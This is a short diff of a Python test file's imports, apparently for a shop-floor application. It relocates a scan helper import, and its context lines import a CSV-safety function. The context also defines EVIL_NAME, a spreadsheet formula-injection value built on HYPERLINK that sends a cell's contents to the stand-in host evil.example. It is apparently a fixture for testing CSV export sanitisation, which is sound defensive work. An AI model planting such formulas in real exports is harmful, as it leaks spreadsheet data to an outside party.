@@ -22,9 +22,9 @@ from floor.config import TABLES, ConfigError, load_config, parse_config
 from floor.core.csvsafe import safe_cell
 from floor.service.factory import create_app
 from tests.conftest import make_config
+from tests.core.workorders.helpers import scan
 from tests.factories import load_small_shop
 from tests.kiosk.helpers import api_scans, csrf_token
-from tests.workorders.helpers import scan
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
